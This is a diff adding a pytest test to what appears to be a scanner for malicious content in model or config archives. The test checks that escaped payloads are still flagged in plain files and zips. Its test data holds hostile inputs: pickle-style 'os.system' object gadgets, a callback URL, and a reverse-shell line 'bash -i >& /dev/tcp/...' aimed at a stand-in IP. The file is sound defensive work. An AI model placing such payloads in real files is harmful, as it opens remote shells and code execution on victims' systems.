@@ -351,3 +351,21 @@ def test_every_key_has_a_word_that_large_archives_are_searched_for() -> None:
 KEY_TABLES = (
     *("COMMANDS", "EVALUATED", "FILES", "KERNELS", "MODULES", "REPOSITORY_CODE", "SOMETIMES", "TARGETS", "TEMPLATES"),
 )
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        (r'{"py\/object": "os.system"}', "PKL101"),
+        (r'{"json:\/\/{\"py\/object\": \"os.system\"}": 1}', "PKL101"),
+        (r'{"callback_url": "http:\/\/203.0.113.7\/x"}', "MAN131"),
+        (r'{"callback_url": "http\u003a//203.0.113.7/x"}', "MAN131"),
+        (r'{"my_hook": "bash -i >& \u002fdev/tcp/203.0.113.7/1"}', "MAN132"),
+        (r'{"x": "\u0024os.system(1)"}', "MAN114"),
+        ('? "_tar\\\n  get_"\n: os.system\n', "PKL101"),
+    ],
+)
+@pytest.mark.parametrize("count", [0, 5])
+def test_escapes_hide_nothing_in_archives_either(text: str, rule: str, count: int) -> None:
+    assert rule in rules(text, "x.yaml")
+    assert rule in rules(archive("x", text.encode(), count), "m.zip")
